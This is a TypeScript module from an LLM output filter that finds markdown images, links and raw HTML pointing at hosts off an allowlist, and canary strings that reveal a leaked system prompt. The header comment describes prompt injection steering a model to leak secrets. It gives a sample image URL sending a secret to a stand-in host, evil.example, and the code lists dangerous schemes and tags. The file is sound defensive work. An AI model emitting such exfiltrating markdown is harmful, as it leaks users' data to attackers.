// Output exfiltration checks (OWASP LLM05): a model steered by injected content can leak data through markdown
// that a chat UI renders — an image is fetched with no click (`![x](https://evil.example/?q=<secret>)`), a link
// carries data in its URL, raw HTML can load resources or run script. These rules find such constructs whose
// target is not on the policy's allowlist (and any javascript:/data:/vbscript:/file: URL), and either neutralise
// them (keep the visible text, drop the target) or only report them (flag mode).
//
// Not code-fence aware: an HTML example inside a ``` block is neutralised too (a deliberate, safe-side choice;
// policies serving coding assistants may prefer mode flag).
import { redactionMarker, regexRule, type Hit, type Rule } from './rules.ts';

export type ExfiltrationMode = 'off' | 'flag' | 'neutralize' | 'block';

const SAFE_SCHEMES = new Set(['mailto', 'tel']);

/** Host allowlist entries: `docs.example.com` (exact) or `*.example.com` (any subdomain, not the apex). */
export function hostAllowed(host: string, allowed: readonly string[]): boolean {
  const h = host.toLowerCase().replace(/\.$/, '');
  for (const raw of allowed) {
    const a = raw.toLowerCase().replace(/\.$/, '');
    if (a.startsWith('*.') ? h.endsWith(a.slice(1)) && h.length > a.length - 1 : h === a) return true;
  }
  return false;
}

/** Whether a URL in output may stay as it is. Relative URLs stay (they resolve to the page's own origin). */
export function urlAllowed(rawUrl: string, allowed: readonly string[]): boolean {
  const url = rawUrl.trim().replace(/^<|>$/g, '');
  // browsers ignore ASCII whitespace and control characters inside a scheme ("java\tscript:")
  // eslint-disable-next-line no-control-regex
  const compact = url.replace(/[\x00-\x20]/g, '');
  const scheme = /^([a-zA-Z][a-zA-Z0-9+.-]*):/.exec(compact)?.[1]?.toLowerCase();
  if (scheme === undefined) {
    if (!compact.startsWith('//') && !compact.startsWith('\\\\') && !compact.startsWith('/\\')) return true;
    return hostOf(`https:${compact.replace(/\\/g, '/')}`, allowed);
  }
  if (SAFE_SCHEMES.has(scheme)) return true;
  if (scheme !== 'http' && scheme !== 'https') return false;
  return hostOf(compact, allowed);
}

function hostOf(url: string, allowed: readonly string[]): boolean {
  try {
    return hostAllowed(new URL(url).hostname, allowed);
  } catch {
    return false;
  }
}

/** Tags that load or run something whatever their attributes. */
const ACTIVE_TAGS = new Set([
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'link', 'style', 'meta', 'base', 'form', 'svg', 'math',
  'portal', 'template',
]);
const HANDLER_ATTR = /(?:^|[\s/])(?:on[a-z]+|style|formaction)\s*=/i;
const URL_ATTR = /(?:^|[\s/])(?:src|srcset|href|action|background|poster|data|xlink:href|cite|ping)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))/gi;

/** A raw HTML tag that can fetch or run something outside the allowlist. */
function activeTag(tag: string, attrs: string, allowed: readonly string[]): boolean {
  if (ACTIVE_TAGS.has(tag.toLowerCase()) || HANDLER_ATTR.test(attrs)) return true;
  for (const m of attrs.matchAll(URL_ATTR)) {
    const value = m[1] ?? m[2] ?? m[3] ?? '';
    for (const part of value.split(',')) if (!urlAllowed(part.trim().split(/\s+/)[0] ?? '', allowed)) return true;
  }
  return false;
}

const escapeHtml = (s: string) => s.replace(/</g, '&lt;').replace(/>/g, '&gt;');

const oneLine = (s: string) => s.replace(/\s+/g, ' ').trim();

/** Rules for the exfiltration check of a policy (none in mode off). */
export function exfiltrationRules(mode: ExfiltrationMode, allowedHosts: readonly string[]): Rule[] {
  if (mode === 'off') return [];
  const report = mode === 'flag';
  const withReplace = (f: (hit: Hit) => string) => (hit: Hit) => (report ? null : f(hit));
  const urlBad = (hit: Hit) => !urlAllowed(hit.groups['url'] ?? '', allowedHosts);
  const TITLE = String.raw`(?:\s{1,8}(?:"[^"\n]{0,200}"|'[^'\n]{0,200}'|\([^)\n]{0,200}\)))?`;
  const TARGET = String.raw`\(\s{0,8}(?P<url><[^>\n]{1,1000}>|[^\s)]{1,1000})${TITLE}\s{0,8}\)`;
  return [
    regexRule({
      name: 'markdown-image', kind: 'exfiltration',
      pattern: String.raw`!\[(?P<text>[^\]\n]{0,500})\]${TARGET}`,
      anchor: String.raw`!\[`,
      accept: urlBad,
      replace: withReplace((hit) => `[image: ${oneLine(hit.groups['text'] ?? '') || 'removed'}]`),
    }),
    regexRule({
      name: 'markdown-link', kind: 'exfiltration',
      pattern: String.raw`\[(?P<text>[^\]\n]{0,500})\]${TARGET}`,
      anchor: String.raw`\[`,
      accept: urlBad,
      replace: withReplace((hit) => `${hit.groups['text'] ?? ''} [link removed]`),
    }),
    regexRule({
      name: 'markdown-link', kind: 'exfiltration',
      pattern: String.raw`(?m)^[ ]{0,3}\[(?P<text>[^\]\n]{1,500})\]:[ \t]{0,8}(?P<url><[^>\n]{1,1000}>|[^\s]{1,1000})`,
      anchor: String.raw`(?m)^[ ]{0,3}\[`,
      accept: urlBad,
      replace: withReplace((hit) => `[${hit.groups['text'] ?? ''}]: #link-removed`),
    }),
    regexRule({
      name: 'markdown-link', kind: 'exfiltration',
      pattern: String.raw`<(?P<url>[a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]{1,1000})>`,
      anchor: String.raw`<[a-zA-Z]`,
      accept: urlBad,
      replace: withReplace(() => '[link removed]'),
    }),
    regexRule({
      name: 'html', kind: 'exfiltration',
      pattern: String.raw`<(?P<tag>[A-Za-z][A-Za-z0-9-]{0,30})(?P<attrs>[\s/][^<>]{0,1000})?>`,
      anchor: String.raw`<[A-Za-z]`,
      accept: (hit) => activeTag(hit.groups['tag'] ?? '', hit.groups['attrs'] ?? '', allowedHosts),
      replace: withReplace((hit) => escapeHtml(hit.text)),
    }),
  ];
}

/** Canaries: strings planted in a system prompt; seeing one in output means the prompt leaked. Case-insensitive. */
export function canaryRules(canaries: readonly string[]): Rule[] {
  return canaries.filter((c) => c.length > 0).map((c) => regexRule({
    name: 'canary', kind: 'canary',
    pattern: `(?i)${c.replace(/[\\^$.|?*+()[\]{}]/g, '\\$&')}`,
    replace: () => redactionMarker('canary'),
  }));
}
